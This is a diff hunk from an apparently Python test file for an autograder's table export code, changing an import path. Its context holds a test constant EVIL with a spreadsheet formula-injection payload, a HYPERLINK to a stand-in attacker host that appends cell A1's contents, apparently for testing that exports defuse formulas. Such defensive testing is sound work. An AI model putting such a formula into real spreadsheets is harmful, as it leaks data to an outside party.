@@ -14,7 +14,7 @@ from hypothesis import strategies as st
 from autograder.class_folder.settings import ClassError
 from autograder.classroom.export import export, export_like
 from autograder.classroom.grades import class_grades
-from autograder.classroom.tables import defused, read_table, write_table
+from autograder.intake.tables import defused, read_table, write_table
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
